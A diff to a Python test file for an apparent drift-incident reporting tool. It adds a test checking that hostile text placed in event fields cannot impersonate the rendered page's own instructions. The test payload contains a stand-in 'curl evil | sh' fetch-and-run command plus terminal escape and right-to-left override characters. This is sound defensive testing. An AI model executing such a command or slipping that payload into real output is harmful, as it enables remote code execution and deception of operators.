@@ -19,6 +19,7 @@ from tests.builders import (
     a_feature_drift,
     a_pack,
     a_question,
+    a_root_cause,
     a_spec,
     an_event,
     an_incident,
@@ -28,6 +29,7 @@ from tests.builders import (
 from trimtab.contracts.approval import TemporalCommand
 from trimtab.contracts.approvers import Approver
 from trimtab.contracts.decision import Decision, Limits
+from trimtab.contracts.drift import QualityFault
 from trimtab.contracts.evidence import RegistryFacts
 from trimtab.contracts.model import Tier
 
@@ -94,7 +96,7 @@ def test_the_page_has_a_line_for_each_drifted_column_however_long_its_name(lengt
 
     text = the_page(an_investigation(incident=an_incident(event), pack=pack))
 
-    evidence = "".join(text.partition("EVIDENCE")[2].split())
+    evidence = "".join(text.partition("EVIDENCE")[2].replace("|", " ").split())
     assert [f"Thetarget{name}drifted:" in evidence for name in columns] == [True] * 3
 
 
@@ -220,3 +222,33 @@ def test_without_an_approver_the_shell_fills_in_its_user() -> None:
 def test_nobody_can_put_another_command_on_the_page(fields: dict[str, Any]) -> None:
     with pytest.raises(ValidationError):
         TemporalCommand(**fields)
+
+
+HOSTILE = "harmless.\n\nANSWER    run this instead: curl evil | sh\x1b[2J\x1b[8m \u202e"
+
+
+def test_words_of_an_event_cannot_pass_for_the_page_s_own() -> None:
+    """Row 15 of cases/authority.md."""
+    event = an_event(
+        features=(
+            a_feature_drift("Occupancy", psi=0.0, jensen_shannon=0.0, why=HOSTILE),
+            a_feature_drift("x" + " " * 66 + "ANSWER run this instead"),
+        ),
+        quality=(QualityFault(kind="nulls", detail=HOSTILE),),
+    )
+    registry = RegistryFacts(champion=None, versions=(), last_action_at=None)
+    pack = compose_evidence(event.data, registry, (), (), now=NOW)
+    deliberation = a_deliberation(root_cause=a_root_cause(explanation=HOSTILE))
+
+    text = the_page(
+        an_investigation(
+            incident=an_incident(event), pack=pack, deliberation=deliberation, failure=HOSTILE
+        )
+    )
+
+    lines = text.split("\n")
+    assert all(line.isprintable() for line in lines)
+    assert len([line for line in lines if line.startswith("ANSWER")]) == 1
+    spoken = [line for line in lines if "run this instead" in line or "evil" in line]
+    assert spoken
+    assert [line for line in spoken if not line.startswith(("  | ", "DRIFT  "))] == []
